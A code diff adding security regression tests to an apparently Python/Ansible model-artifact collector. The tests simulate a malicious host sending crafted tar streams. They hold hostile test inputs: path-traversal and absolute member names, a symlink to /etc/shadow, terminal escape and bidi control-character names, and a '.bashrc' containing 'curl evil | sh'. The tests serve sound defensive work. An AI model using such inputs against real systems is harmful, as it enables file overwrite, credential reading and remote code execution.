@@ -15,8 +15,9 @@ from pathlib import Path
 from types import ModuleType
 
 import pytest
+import yaml
 
-from tfcluster import collect, transfer
+from tfcluster import collect, files, transfer
 
 REPO = Path(__file__).resolve().parents[3]
 PLUGINS = REPO / "playbooks/collections/ansible_collections/tfcluster/cluster/plugins"
@@ -56,7 +57,7 @@ def request(src: Path, dest: Path, connection: str = "ssh", **more: object) -> d
     reach = {"connection": connection, "host": "10.0.0.5", "port": 22, "user": "ubuntu", "become": False}
     return {"name": "chief-0", "reach": {**reach, **more.pop("reach", {})}, "model_dir": str(src),  # type: ignore[dict-item]
             "manifest": info["manifest"], "files": info["files"], "optional": info["optional"], "dest": str(dest),
-            **more}
+            "optional_names": OPTIONAL, **more}
 
 
 @pytest.fixture
@@ -286,3 +287,211 @@ def test_cli_verify(tmp_path: Path) -> None:
     proc = subprocess.run([sys.executable, "-m", "tfcluster.collect", "verify", str(src)], cwd=REPO,
                           capture_output=True, text=True, check=True)
     assert json.loads(proc.stdout)["verified"] == len(FILES)
+
+
+# --- a chief that answers with names nobody asked for ----------------------------------------------------------------
+# The host's answer (manifest text, sizes, the tar stream) is data. Tried: an optional member named ../../../x (or an
+# absolute path) in the chief's answer was written outside the staging dir and the collect still said "every sha256
+# verified". Now the names come from the control side only, each passes one rule, and nothing escapes staging.
+
+ESCAPE = "\x1b]52;c;AAAA\x07"
+
+
+@pytest.fixture
+def evil_chief(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    """`ssh` that prints a prepared tar stream whatever it is asked: ``serve(data)``."""
+    bin_dir = tmp_path / "evil-bin"
+    bin_dir.mkdir()
+    stream = tmp_path / "evil.tar"
+    (bin_dir / "ssh").write_text(f"#!/bin/sh\nexec cat {stream}\n")
+    (bin_dir / "ssh").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
+    return stream.write_bytes
+
+
+def tar_of(src: Path, names: list[str], extra: list[tuple[tarfile.TarInfo, bytes]] = ()) -> bytes:  # type: ignore[assignment]
+    """A tar of ``names`` from ``src`` (what an honest chief sends) with ``extra`` members appended."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as archive:
+        for name in names:
+            data = (src / name).read_bytes()
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+        for info, data in extra:
+            archive.addfile(info, io.BytesIO(data) if info.isfile() else None)
+    return buf.getvalue()
+
+
+def member(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, link: str = "",
+           size: int | None = None) -> tuple[tarfile.TarInfo, bytes]:
+    info = tarfile.TarInfo(name)
+    info.type, info.linkname = kind, link
+    info.size = len(data) if size is None else size
+    return info, data
+
+
+def honest_names(src: Path) -> list[str]:
+    return [*sorted(FILES), "MANIFEST.sha256", "DONE"]
+
+
+def assert_refused(req: dict, dest: Path, *, names: str, outside: list[Path] = ()) -> str:  # type: ignore[assignment]
+    """The collect fails naming the host and ``names`` (as printed), nothing lands outside staging, nor anywhere
+    in dest but the old copy, and `current` still points at it."""
+    with pytest.raises(collect.CollectError) as error:
+        collect.pull(req)
+    msg = str(error.value)
+    assert "from chief-0 failed" in msg and names in msg, msg
+    assert not any(ch in msg for ch in "\x1b\x07\n"), msg  # the name cannot reach the terminal raw
+    for path in outside:
+        assert not os.path.lexists(path), path
+    assert sorted(p.name for p in dest.iterdir()) == ["current", "old"] and os.readlink(dest / "current") == "old"
+    return msg
+
+
+def old_copy(dest: Path) -> Path:
+    (dest / "old").mkdir(parents=True)
+    (dest / "current").symlink_to("old")
+    return dest
+
+
+@pytest.mark.parametrize("where", ["relative", "absolute"])
+def test_an_optional_name_that_escapes_is_never_written(tmp_path: Path, evil_chief, where: str) -> None:
+    target = tmp_path / "escaped"
+    dest = old_copy(tmp_path / "artifacts" / "job")
+    name = "../../../escaped" if where == "relative" else str(target)
+    src = model_dir(tmp_path / "chief", FILES)
+    req = request(src, dest)
+    req["optional"] = [{"path": name, "size": 6}]
+    evil_chief(tar_of(src, honest_names(src), [member(name, b"pwned\n")]))
+    assert_refused(req, dest, names=repr(name), outside=[target])
+
+
+def test_an_optional_name_not_configured_is_refused(tmp_path: Path, evil_chief) -> None:
+    dest = old_copy(tmp_path / "artifacts" / "job")
+    src = model_dir(tmp_path / "chief", FILES, optional={".bashrc": b"curl evil | sh\n"})
+    req = request(src, dest)
+    req["optional"] = [{"path": ".bashrc", "size": 15}]
+    evil_chief(tar_of(src, [*honest_names(src), ".bashrc"]))
+    assert_refused(req, dest, names="'.bashrc'")
+
+
+def test_a_configured_optional_name_that_escapes_is_refused(tmp_path: Path, evil_chief) -> None:
+    dest = old_copy(tmp_path / "artifacts" / "job")
+    src = model_dir(tmp_path / "chief", FILES)
+    req = request(src, dest, optional_names=["status.json", "../up.json"])
+    evil_chief(tar_of(src, honest_names(src)))
+    msg = assert_refused(req, dest, names="'../up.json'")
+    assert "collector_optional_files" in msg
+
+
+@pytest.mark.parametrize(("extra", "names"), [
+    ([member("status.json", kind=tarfile.SYMTYPE, link="/etc/shadow")], "'status.json'"),
+    ([member("status.json", kind=tarfile.LNKTYPE, link="DONE")], "'status.json'"),
+    ([member("status.json", b"x" * 5000, size=5000)], "status.json is 5,000 bytes in the stream but 2"),
+    ([member("..", kind=tarfile.DIRTYPE)], "'..'"),
+    ([member(".", kind=tarfile.DIRTYPE)], "'.'"),
+    ([member("../../../escaped", b"pwned\n")], "'../../../escaped'"),
+    ([member("/tmp/escaped-abs", b"pwned\n")], "'/tmp/escaped-abs'"),
+    ([member("a\nb", b"x")], r"'a\nb'"),
+    ([member(ESCAPE, b"x")], repr(ESCAPE)),
+])
+def test_a_member_the_chief_should_not_send_fails_the_collect(tmp_path: Path, evil_chief, extra, names: str) -> None:
+    dest = old_copy(tmp_path / "artifacts" / "job")
+    src = model_dir(tmp_path / "chief", FILES, optional={"status.json": b"{}"})
+    req = request(src, dest)
+    evil_chief(tar_of(src, honest_names(src), extra))
+    assert_refused(req, dest, names=names, outside=[tmp_path / "escaped", Path("/tmp/escaped-abs")])
+
+
+def test_a_symlinked_parent_in_staging_is_not_followed(tmp_path: Path) -> None:
+    staging, outside = tmp_path / "staging", tmp_path / "outside"
+    staging.mkdir()
+    outside.mkdir()
+    (staging / "export").symlink_to(outside)
+    data = plain_tar("export/saved_model.pb", b"graph")
+    with pytest.raises(transfer.CollectError, match=r"'export/saved_model\.pb'"):
+        transfer.receive(io.BytesIO(data), staging, {"export/saved_model.pb": transfer.Wanted(None, 5)},
+                         transfer.Budget(1 << 20, "chief-0"))
+    assert list(outside.iterdir()) == []
+
+
+@pytest.mark.parametrize("name", [ESCAPE, "tab\there", "nul\x00", "del\x7f", "csi\x9b", "bidi\u202egnp.exe"])
+def test_a_manifest_line_with_a_control_character_is_refused(tmp_path: Path, evil_chief, name: str) -> None:
+    dest = old_copy(tmp_path / "artifacts" / "job")
+    src = model_dir(tmp_path / "chief", FILES)
+    req = request(src, dest)
+    line = f"{hashlib.sha256(b'x').hexdigest()}  {name}\n"
+    req["manifest"] += line
+    (src / "MANIFEST.sha256").write_text(req["manifest"])
+    sizes = {"MANIFEST.sha256": len(req["manifest"].encode())}
+    req["files"] = [{**f, "size": sizes.get(f["path"], f["size"])} for f in req["files"]]
+    req["files"].append({"path": name, "size": 1, "sha256": hashlib.sha256(b"x").hexdigest()})
+    evil_chief(tar_of(src, honest_names(src), [member(name, b"x")]))
+    msg = assert_refused(req, dest, names="MANIFEST.sha256 line 5")
+    assert "control character" in msg
+
+
+@pytest.mark.parametrize(("rel", "why"), [
+    ("", "empty"), ("/etc/passwd", "absolute"), ("a/../b", "'..'"), ("..", "'..'"), ("./a", "'.'"), ("a//b", "empty"),
+    ("a/", "empty"), ("a\\b", "backslash"), ("a\x00b", "control character"), ("a\rb", "control character"),
+    ("\x1b[2J", "control character"), ("x" * 5000, "long"),
+])
+def test_the_name_rule(rel: str, why: str) -> None:
+    problem = files.rel_problem(rel)
+    assert problem is not None and why in problem
+    with pytest.raises(files.ManifestError):
+        files.parse_manifest(f"{'0' * 64}  {rel}\n")
+
+
+@pytest.mark.parametrize("rel", ["a", "export/saved_model.pb", "status.json", "ünï cödé/файл.bin", "a b", ".hidden"])
+def test_the_name_rule_keeps_ordinary_names(rel: str) -> None:
+    assert files.rel_problem(rel) is None
+    assert files.parse_manifest(f"{'0' * 64}  {rel}\n") == [("0" * 64, rel)]
+
+
+def test_the_chief_side_refuses_an_optional_name_outside_the_model_dir(tmp_path: Path) -> None:
+    (tmp_path / "secret").write_text("not yours")
+    src = model_dir(tmp_path / "m", FILES)
+    with pytest.raises(modeldir.ModelDirError, match=r"'\.\./secret'"):
+        modeldir.describe(str(src), ["status.json", "../secret"])
+
+
+def test_a_local_copy_refuses_a_file_whose_size_changed(tmp_path: Path) -> None:
+    src = model_dir(tmp_path / "chief", FILES)
+    dest = old_copy(tmp_path / "artifacts" / "job")
+    req = request(src, dest, "local")
+    (src / "checkpoints/ckpt-1.index").write_bytes(b"much longer")
+    assert_refused(req, dest, names="checkpoints/ckpt-1.index")
+
+
+@pytest.mark.parametrize("link", ["export", "export/saved_model.pb"])
+def test_a_link_inside_staging_is_not_followed_either(tmp_path: Path, link: str) -> None:
+    """The second guard: a link that resolves inside staging still is not followed (O_NOFOLLOW, O_EXCL)."""
+    staging = tmp_path / "staging"
+    (staging / "other").mkdir(parents=True)
+    (staging / link).parent.mkdir(parents=True, exist_ok=True)
+    (staging / link).symlink_to(staging / "other")
+    with pytest.raises(transfer.CollectError, match="without following a link"):
+        transfer.open_inside(staging, "export/saved_model.pb")
+    assert list((staging / "other").iterdir()) == []
+
+
+def test_the_role_asks_for_the_configured_optional_names() -> None:
+    """The set of files is the control side's: the role passes collector_optional_files, not the chief's list."""
+    role_vars = yaml.safe_load((REPO / "playbooks/roles/collector/vars/main.yml").read_text())
+    for request_var in ("_collector_request", "_collector_s3_request"):
+        assert role_vars[request_var]["optional_names"] == "{{ collector_optional_files }}"
+    assert "collector_optional_files" not in str(role_vars["_collector_request"].get("optional"))
+
+
+def test_a_manifest_is_never_written_for_a_name_the_collector_would_refuse(tmp_path: Path) -> None:
+    """A job that writes a file named with an escape fails at the manifest, naming it, instead of leaving a model
+    dir whose manifest nobody can collect."""
+    from tfcluster.files import ManifestError, write_manifest
+
+    (tmp_path / "ok.txt").write_text("fine")
+    (tmp_path / "bad\x1b]52;c;AAAA\x07").write_text("payload")
+    with pytest.raises(ManifestError, match="control character") as caught:
+        write_manifest(tmp_path)
+    assert "\x1b" not in str(caught.value) and not (tmp_path / "MANIFEST.sha256").exists()
